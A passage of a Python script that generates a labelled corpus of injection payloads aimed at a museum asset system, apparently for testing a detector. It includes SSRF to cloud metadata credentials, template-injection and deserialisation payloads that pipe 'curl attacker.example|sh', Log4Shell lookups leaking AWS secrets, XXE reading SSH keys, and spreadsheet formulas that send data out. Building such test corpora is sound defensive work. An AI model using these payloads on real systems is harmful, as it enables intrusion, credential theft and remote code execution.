    ("iiif-ipv6-mapped-metadata", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("iiif-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("iiif-metadata+hex-ip", "http://0xa9fea9fe/latest/user-data"),
    ("iiif-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/hostname"),
    ("iiif-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("iiif-redis-http", "http://127.0.0.1:6379/"),
    ("harvest-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%2Fc%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("harvest-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("iiif-localhost-admin", "http://localhost:8080/admin/users"),
    ("iiif-short-ip", "http://127.1/server-status"),
    ("iiif-zero-ip", "http://0:8000/internal/config"),
    ("iiif-ipv6-loopback", "http://[::1]:9200/_cat/indices?v"),
    ("iiif-userinfo-confusion", "https://iiif.museum.example@127.0.0.1:8983/solr/admin/cores?action=STATUS"),
    ("iiif-fragment-confusion", "http://127.0.0.1:8080#@iiif.museum.example/manifest.json"),
    ("iiif-allowlist-suffix", "https://iiif.museum.example.attacker.example/manifest.json"),
    ("iiif-dns-rebinding", "http://a9fea9fe.7f000001.rebind.attacker.example/latest/meta-data/"),
    ("iiif-open-redirect", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("iiif-file-scheme", "file:///etc/passwd"),
    ("iiif-netdoc-scheme", "netdoc:///etc/hosts"),
    ("iiif-jar-scheme", "jar:file:///opt/dams/lib/dams.jar!/application.properties"),
    ("findaid-dao-internal-solr", "<dao href=\"http://solr.internal:8983/solr/collections/select?q=*:*&amp;wt=json\" role=\"image\"/>"),
    ("harvest-internal-elasticsearch", "http://elasticsearch:9200/_search?q=password"),
    ("harvest-kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("iiif-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("iiif-manifest-thumbnail-metadata", "{\"type\": \"Manifest\", \"id\": \"https://iiif.museum.example/m/1\", \"thumbnail\": [{\"id\": \"http://169.254.169.254/latest/meta-data/iam/security-credentials/dams-role\", \"type\": \"Image\"}]}"),
    ("iiif-azure-identity-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("iiif-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("iiif-tomcat-manager+urlenc", "http%3A%2F%2F127.0.0.1%3A8080%2Fmanager%2Fhtml"),
    ("iiif-loopback+enclosed-digits", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/admin"),
    ("iiif-ipv6-full-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:5000/debug"),
    ("iiif-actuator+hex-ip", "http://0x7f.0x0.0x0.0x1:8080/actuator/env"),
    ("iiif-couchdb+octal-ip", "http://017700000001:5984/_all_dbs"),
    ("filename-unc-ntlm", "\\\\203.0.113.5\\scans\\1987_45_3.tif"),
    ("findaid-dao-tomcat", "<dao href=\"http://10.0.0.12:8080/manager/html\" role=\"image\"/>"),
    ("rights-allowlist-prefix", "http://rightsstatements.org.attacker.example/vocab/InC/1.0/"),
    ("harvest-oai-loopback", "http://127.0.0.1:8080/oai?verb=ListRecords&metadataPrefix=oai_dc&set=restricted"),
    ("loan-webhook-aws-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("iiif-aws-instance-data-host", "http://instance-data/latest/meta-data/public-keys/"),
    ("iiif-ecs-task-metadata", "http://169.254.170.2/v2/metadata"),
    ("harvest-ldap-scheme", "ldap://127.0.0.1:389/dc=museum,dc=example??sub?(objectClass=*)"),
    ("iiif-ipv4-compatible+case", "HTTP://[::127.0.0.1]:8080/"),
    ("iiif-unspecified-ipv6", "http://[::]:80/server-status"),
    ("iiif-zero-address-redis", "http://0.0.0.0:6379/INFO"),
    ("iiif-identifier-url+urlenc", "https://iiif.museum.example/iiif/2/http%3A%2F%2F127.0.0.1%3A8182%2Fadmin/full/max/0/default.jpg"),
    ("iiif-loopback+decimal-ip", "http://2130706433:8080/"),
    ("iiif-smtp-crlf", "http://127.0.0.1:25/%0D%0AHELO%20dams%0D%0AMAIL%20FROM%3A%3Cx%40museum.example%3E"),
    ("iiif-loopback+ipv6-hex", "http://[::ffff:7f00:1]:8080/admin"),
    ("plain-metadata-root", "http://169.254.169.254/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file-win", "file:///c:/windows/win.ini"),
    ("plain-private-router", "http://192.168.0.1/admin"),
]

SSRF_HOSTS = [("loopback", "127.0.0.1"), ("metadata", "169.254.169.254"),
              ("loopback+decimal-ip", "2130706433"), ("private", "10.0.0.5"),
              ("private", "172.16.0.10"), ("metadata+ipv6-mapped", "[::ffff:a9fe:a9fe]")]
SSRF_PATHS = ["/latest/meta-data/", "/admin/", ":8983/solr/admin/info/system",
              ":9200/_cat/nodes", ":5000/debug/vars", ":8500/v1/kv/?recurse"]
SSRF_CTX = ["iiif", "harvest", "findaid-dao", "rights"]


def t_ssrf(rng):
    tech, host = rng.choice(SSRF_HOSTS)
    base = tech.split("+")
    cls = "%s-%s" % (rng.choice(SSRF_CTX), base[0])
    if len(base) > 1:
        cls += "+" + base[1]
    return (cls, "http://%s%s" % (host, rng.choice(SSRF_PATHS)))


# ---------------------------------------------------------------------------
# code: SSTI, expression languages, deserialization, XXE, XSLT, Log4Shell,
# prototype pollution, CSV formulas, other server-side evaluation
# ---------------------------------------------------------------------------
CODE = [
    ("label-jinja2-cycler", "Gallery {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("catalogue-jinja2-subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['cat', '/etc/passwd'], stdout=-1).communicate()[0] }}{% endif %}{% endfor %}"),
    ("label-jinja2-request-globals", "{{ request.application.__globals__.__builtins__.__import__('os').popen('curl -s attacker.example/j | sh').read() }}"),
    ("rights-jinja2-config", "\u00a9 {{ config.items() }}"),
    ("label-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    ("label-jinja2-attr-filter+hexesc", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("label-twig-filter-system", "{{ ['id'] | filter('system') }}"),
    ("catalogue-twig-undefined-filter", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('cat /etc/passwd') }}"),
    ("label-freemarker-execute", "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("label-velocity-runtime", "#set($s = \"\")#set($rt = $s.getClass().forName(\"java.lang.Runtime\"))#set($p = $rt.getRuntime().exec(\"id\"))$p.waitFor()"),
    ("loan-erb-backtick", "Loan L.2025.14 <%= `id` %>"),
    ("label-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("search-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/thyme')}__::.x"),
    ("search-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("label-mako-import", "<% import os %>${ os.popen('id').read() }"),
    ("label-smarty-fetch", "{$smarty.version}{fetch file='/etc/passwd'}"),
    ("label-smarty-system", "Gallery 4 {system('id')}"),
    ("catalogue-pug-interpolation", "#{function(){var r=global.process.mainModule.require;return r('child_process').execSync('id')}()}"),
    ("label-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("loan-python-format-string", "Lent by {loan.__init__.__globals__[app].config[SECRET_KEY]}"),
    ("label-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("loan-ejs-proto-gadget", "{\"__proto__\": {\"outputFunctionName\": \"x;process.mainModule.require('child_process').execSync('curl attacker.example/e|sh');x\"}}"),
    ("search-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("label-java-el-reflection", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("catalogue-groovy-gstring", "${\"id\".execute().text}"),
    ("label-razor-process", "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\"); }"),
    ("label-jinja2-self-globals+urlenc", "%7B%7B%20self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()%20%7D%7D"),
    ("label-jinja2-open-file", "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("transcription-log4shell", "Dear Sir, ${jndi:ldap://attacker.example:1389/Exploit} \u2014 yours &c."),
    ("search-log4shell-lower", "${${lower:j}${lower:n}${lower:d}i:ldap://x.attacker.example/a}"),
    ("search-log4shell-env-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.dns.attacker.example/}"),
    ("accession-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5:1099/o}"),
    ("search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.33%2Fa%7D"),
    ("transcription-log4shell-sys", "${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/v}"),
    ("label-log4shell-upper-date", "${${upper:j}ndi:${date:'l'}${date:'d'}ap://attacker.example/z}"),
    ("digitisation-pickle-protocol0", "cos\nsystem\n(S'curl -s http://attacker.example/p | sh'\ntR."),
    ("digitisation-pickle+base64", "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu"),
    ("findaid-yaml-python-apply", "!!python/object/apply:os.system ['curl -s http://attacker.example/y | sh']"),
    ("findaid-snakeyaml-classloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("loan-php-object-injection", "O:9:\"ExportJob\":2:{s:6:\"format\";s:3:\"csv\";s:7:\"command\";s:26:\"curl attacker.example/x|sh\";}"),
    ("digitisation-phar-wrapper", "phar:///var/dams/uploads/1987_45_3.jpg/test.txt"),
    ("iiif-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/obj\", \"autoCommit\": true}]"),
    ("iiif-fastjson-autotype", "{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"rmi://203.0.113.5:1099/x\", \"autoCommit\": true}"),
    ("loan-jsonnet-typenamehandling", "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\", \"MethodName\": \"Start\", \"MethodParameters\": {\"$type\": \"System.Collections.ArrayList, mscorlib\", \"$values\": [\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\"]}, \"ObjectInstance\": {\"$type\": \"System.Diagnostics.Process, System\"}}"),
    ("label-node-serialize-iife", "{\"label\": \"_$$ND_FUNC$$_function(){require('child_process').exec('id > /tmp/n')}()\"}"),
    ("findaid-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE ead [<!ENTITY bio SYSTEM \"file:///etc/passwd\">]>\n<ead><archdesc level=\"collection\"><bioghist><p>&bio;</p></bioghist></archdesc></ead>"),
    ("findaid-xxe-oob-parameter", "<?xml version=\"1.0\"?><!DOCTYPE ead [<!ENTITY % remote SYSTEM \"http://attacker.example/ead.dtd\"> %remote; %send;]><ead/>"),
    ("findaid-xinclude-file", "<unittitle xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hostname\" parse=\"text\"/></unittitle>"),
    ("digitisation-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///home/dams/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"100\"><text x=\"10\" y=\"40\">&k;</text></svg>"),
    ("findaid-xxe-ssrf-metadata", "<!DOCTYPE ead [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><ead><eadheader><eadid>&m;</eadid></eadheader></ead>"),
    ("findaid-entity-expansion", "<!DOCTYPE ead [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><ead><eadid>&g;</eadid></ead>"),
    ("findaid-xxe+utf7", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE ead +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-ead+AD4-+ACY-x+ADs-+ADw-/ead+AD4-"),
    ("findaid-xslt-php-function", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:template></xsl:stylesheet>"),
    ("findaid-xslt-unparsed-text", "<xsl:value-of select=\"unparsed-text('file:///etc/passwd')\"/>"),
    ("findaid-xslt-xalan-runtime", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:variable name=\"r\" select=\"rt:getRuntime()\"/><xsl:value-of select=\"rt:exec($r,'id')\"/></xsl:template></xsl:stylesheet>"),
    ("loan-json-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("loan-json-constructor-prototype", "{\"constructor\": {\"prototype\": {\"canDeaccession\": true}}}"),
    ("search-qs-proto-pollution", "filter[__proto__][role]=admin"),
    ("loan-proto-child-process-env", "{\"__proto__\": {\"shell\": \"/bin/bash\", \"env\": {\"BASH_ENV\": \"$(curl attacker.example/pp|sh)\"}}}"),
    ("object-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&\"|\"&C2, \"Open provenance file\")"),
    ("object-csv-dde-cmd", "=cmd|' /C powershell -nop -c iwr http://attacker.example/c.ps1|iex'!A1"),
    ("provenance-csv-at-sum-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("loan-csv-minus-dde", "-1+1+cmd|' /C explorer https://attacker.example/'!A0"),
    ("object-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/s?x=\", CONCATENATE(A2:F2)), \"//p\")"),
    ("loan-csv-webservice", "=WEBSERVICE(\"https://attacker.example/w?\"&ENCODEURL(B2))"),
    ("object-csv-image-exfil", "+IMAGE(\"https://attacker.example/p.png?\"&A2&B2)"),
    ("object-python-eval-dimensions", "23 * 2.54 + __import__('os').system('id')"),
    ("object-node-eval-date", "1850 + require('child_process').execSync('id').length"),
    ("label-php-complex-syntax", "{${system('id')}}"),
    ("search-solr-xmlparser-xxe", "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://attacker.example/solr.dtd\"><a></a>'}"),
    ("label-latex-write18", "\\immediate\\write18{curl attacker.example/t | sh}"),
    ("label-latex-input", "Catalogue entry \\input{/etc/passwd}"),
    ("label-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("label-esi-include", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("plain-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/p}"),
    ("plain-spel-getenv", "#{T(java.lang.System).getenv()}"),
    ("plain-csv-dde", "=cmd|'/C calc'!A0"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-xxe-file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
]


# ---------------------------------------------------------------------------
# nosqli
# ---------------------------------------------------------------------------
NOSQLI = [
    ("search-json-ne-null", "{\"accession_no\": {\"$ne\": null}}"),
    ("loan-portal-json-gt-empty", "{\"username\": \"registrar\", \"password\": {\"$gt\": \"\"}}"),
    ("search-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("loan-portal-qs-regex", "username=registrar&password[$regex]=^a"),
    ("search-qs-ne", "accession_no[$ne]=x"),
    ("object-where-breakout", "Wedgwood' || '1'=='1"),
    ("object-where-breakout-sleep", "Wedgwood'; sleep(5000); var x='"),
    ("search-json-or-empty", "{\"$or\": [{}, {\"restricted\": true}]}"),
    ("search-expr-function-js", "{\"$expr\": {\"$function\": {\"body\": \"function() { var d = new Date(); while (new Date() - d < 5000) {} return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("search-aggregate-lookup", "[{\"$match\": {}}, {\"$lookup\": {\"from\": \"staff_users\", \"pipeline\": [], \"as\": \"u\"}}]"),
    ("loan-json-regex-dump", "{\"lender_contact.email\": {\"$regex\": \"^.*@\"}, \"insurance_value\": {\"$gt\": 0}}"),
    ("loan-portal-json-in-ne", "{\"username\": {\"$in\": [\"admin\", \"root\", \"registrar\"]}, \"password\": {\"$ne\": \"x\"}}"),
    ("search-filter-where-restricted", "filter={\"title\":{\"$regex\":\".*\"},\"$where\":\"this.restricted == true\"}"),
    ("search-json-ne+jsonesc", "{\"accession_no\": {\"\\u0024ne\": null}}"),
    ("loan-portal-qs-ne+urlenc", "username=registrar&password%5B%24ne%5D=1"),
    ("search-couch-mango-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"password\"]}"),
    ("loan-portal-where-password-regex", "' || this.password.match(/^a/) || '"),
    ("search-aggregate-out", "[{\"$match\": {}}, {\"$out\": \"public_exhibits\"}]"),
    ("loan-portal-qs-reset-token", "reset_token[$regex]=.*&email=registrar@citymuseum.example"),
    ("search-json-nin-empty", "{\"role\": {\"$nin\": []}, \"restricted\": {\"$exists\": true}}"),
    ("transcription-where-tojson-exfil", "x'; return tojson(db.getCollectionNames()) == '' || true; var y='"),
    ("findaid-json-regex-access", "{\"access_status\": {\"$regex\": \"closed|restricted\"}, \"box\": {\"$gte\": 0}}"),
    ("search-qs-where", "q[$where]=this.insurance_value>100000"),
    ("plain-json-gt-login", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("plain-qs-ne-login", "user[$ne]=a&pass[$ne]=a"),
]


# ---------------------------------------------------------------------------
# crlf: response splitting, header injection, log forging, mail injection
# ---------------------------------------------------------------------------
CRLF = [
    ("filename-response-splitting", "1987_45_3a-b_recto_001.tif\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("iiif-redirect-set-cookie+urlenc", "/collection/1987.45.3%0d%0aSet-Cookie:%20dams_session=attacker-fixed-0000;%20Path=/"),
    ("search-log-forging", "1987.45.3\n2024-05-01 12:00:03 INFO user=director action=deaccession object=1987.45.3 result=APPROVED"),
    ("loan-mail-bcc", "Loan request: L.2025.14\r\nBcc: everyone@attacker.example"),
    ("loan-mail-from-cc", "registrar@citymuseum.example\nCc: leak@attacker.example"),
    ("search-redirect-set-cookie+utf8-trunc", "/search?q=earrings%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("loan-smtp-smuggling", "Dear Registrar,\r\n.\r\nMAIL FROM:<director@citymuseum.example>\r\nRCPT TO:<finance@citymuseum.example>\r\nDATA\r\nSubject: Urgent payment\r\n\r\nPlease wire the courier fee today.\r\n.\r\n"),
    ("iiif-header-refresh", "/iiif/viewer\r\nRefresh: 0; url=https://attacker.example/login"),
    ("search-log-ansi-escape", "1987.45.3\u001b[1A\u001b[2K\u001b[32mOK: integrity check passed\u001b[0m"),
    ("search-log-json-breakout", "1987.45.3\", \"level\": \"INFO\", \"user\": \"director\", \"action\": \"approve_deaccession"),
    ("iiif-request-splitting", "ms1234-f001 HTTP/1.1\r\nHost: dams-admin.internal\r\n\r\nGET /admin/export?all=1"),
    ("filename-lf-set-cookie", "1955_3_7_front.jpg\nSet-Cookie: dams_role=admin"),
    ("filename-cr-header", "report.pdf\rX-Injected-By: catalogue"),
    ("iiif-redirect-set-cookie+urlenc2", "/objects/2003.112.7%250d%250aSet-Cookie%253A%2520dams_role%253Dadmin"),
    ("loan-mail-html-body", "Facility report\nContent-Type: text/html\n\n<a href=\"https://attacker.example/fr\">Download facility report</a>"),
    ("findaid-log-syslog-forge", "Box 12 Folder 3\r\n<13>May  1 12:00:00 dams sudo: registrar : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/true"),
    ("filename-disposition-inline", "catalogue.pdf\r\nContent-Disposition: inline\r\nContent-Type: text/html"),
    ("iiif-cors-injection", "/manifest\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("loan-mail-name-to", "Anna Kowalska\nTo: all-staff@citymuseum.example"),
    ("loan-mail-reply-to", "Question about 1987.45.3\r\nReply-To: curator@attacker.example"),
    ("label-x-accel-redirect", "/exhibitions/drop-by-drop\nX-Accel-Redirect: /internal/dams/masters/"),
    ("search-access-log-forging", "earrings HTTP/1.1\" 200 512\n203.0.113.77 - admin [01/May/2024:12:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 1024"),
    ("iiif-redirect-body-injection", "/login?next=/\r\n\r\n<html><body>Session expired \u2014 <a href=//attacker.example>log in again</a></body></html>"),
    ("transcription-log-cr-overwrite", "1987.45.3\rADMIN LOGIN OK user=director"),
    ("conservation-log-multiline-forge", "CR-2024-017 saved\n[2024-05-01T12:00:00Z] AUDIT condition=good approved_by=head_conservator object=1987.45.3"),
    ("transcription-audit-log-forging", "Pd. the sexton 1s.\n2024-05-02 09:14:00 REVIEW transcription=4471 status=approved reviewer=editor"),
    ("rights-header-location", "InC-EDU\r\nLocation: https://attacker.example/rights"),
    ("plain-set-cookie+urlenc", "%0d%0aSet-Cookie: a=b"),
    ("plain-header-injection", "\r\nX-Test: injected"),
    ("plain-location+urlenc", "foo%0aLocation: https://attacker.example"),
]


# ---------------------------------------------------------------------------
# ldap-xpath
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("loan-contact-ldap-or-inject", "*)(uid=*))(|(uid=*"),
    ("loan-contact-ldap-or-true", "registrar)(|(objectClass=*)"),
    ("loan-portal-ldap-and-true", "admin)(&)"),
    ("loan-portal-ldap-blind-password", "director)(userPassword=a*"),
    ("loan-contact-ldap-group-enum", "*)(memberOf=cn=collections-admins,ou=groups,dc=museum,dc=example"),
    ("loan-contact-ldap-description", "Kowalsk*)(description=*pass*"),
    ("loan-contact-ldap-or-inject+urlenc", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("loan-contact-ldap-attr-dump", "*)(|(mail=*@citymuseum.example)(telephoneNumber=*)"),
    ("loan-contact-ldap-not", "*)(!(uid=nobody)"),
    ("loan-portal-ldap-truncate+nullbyte", "*)(cn=*))%00"),
    ("findaid-xpath-tautology", "Correspondence' or '1'='1"),
    ("findaid-xpath-union", "x'] | //staff/user/password | //c02[did/unittitle='x"),
    ("findaid-xpath-count", "x' or count(/ead/*)>0 or 'a'='b"),
    ("findaid-xpath-blind-name", "x' or substring(name(/*[1]),1,1)='e' or 'a'='b"),
    ("findaid-xpath-contains", "') or contains(., 'restricted') or ('"),
    ("findaid-xpath-union-dq", "x\"] | //accessrestrict | //*[\""),
    ("findaid-xpath2-doc-oob", "' or doc('http://attacker.example/x.xml')/a or '"),
    ("findaid-xpath-blind-length", "1921' or string-length(//user[1]/password)=8 or 'a'='b"),
    ("findaid-xpath-numeric", "4 or 1=1"),
    ("findaid-xpath-tautology+xmlent", "x&apos; or &apos;1&apos;=&apos;1"),
    ("plain-xpath-empty-tautology", "' or ''='"),
    ("plain-ldap-wildcard", "*)(objectClass=*"),
    ("plain-ldap-close-reopen", "*))(|(cn=*"),
]


# category -> (literals, template or None, target count)
CATEGORIES = [
    ("sqli", SQLI, t_sqli, 78),
    ("xss", XSS, t_xss, 74),
    ("cmdi", CMDI, t_cmdi, 72),
    ("traversal", TRAVERSAL, t_traversal, 54),
    ("ssrf", SSRF, t_ssrf, 55),
    ("code", CODE, None, 80),
    ("nosqli", NOSQLI, None, 25),
    ("crlf", CRLF, None, 30),
    ("ldap-xpath", LDAP_XPATH, None, 23),
]


def build():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for name, literals, template, target in CATEGORIES:
        cat = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (name, v))
            seen.add(v)
            cat.append((cls, v))
        n_lit = len(cat)
        if n_lit > target:
            raise SystemExit("%s: %d literals exceed target %d" % (name, n_lit, target))
        tries = 0
        while len(cat) < target:
            tries += 1
            if template is None or tries > 10000:
                raise SystemExit("%s: cannot reach target %d" % (name, target))
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            cat.append((cls, v))
        for cls, v in cat:
            rows.append({"category": name, "class": cls, "value": v})
        stats.append((name, len(cat), n_lit))
    return rows, stats


def main():
    rows, stats = build()
    out = []
    values = []
    for i, r in enumerate(rows, 1):
        v = r["value"]
        assert isinstance(v, str) and v and len(v) <= 1800, r
        values.append(v)
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": r["category"],
                    "class": r["class"], "label": "attack", "value": v})
    assert len(values) == len(set(values)), "duplicate values"
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as f:
            bvals = [json.loads(line)["value"] for line in f]
        overlap = set(bvals).intersection(values)
        assert not overlap, "values in both files: %r" % sorted(overlap)
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for name, n, n_lit in stats:
        total_lit += n_lit
        print("%-11s %3d  (literals %d)" % (name, n, n_lit))
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print("total %d values, %d literals (%.0f%%), plain %d, encoded %d -> %s" % (
        len(out), total_lit, 100.0 * total_lit / len(out), n_plain, n_enc, path.name))


if __name__ == "__main__":
    main()
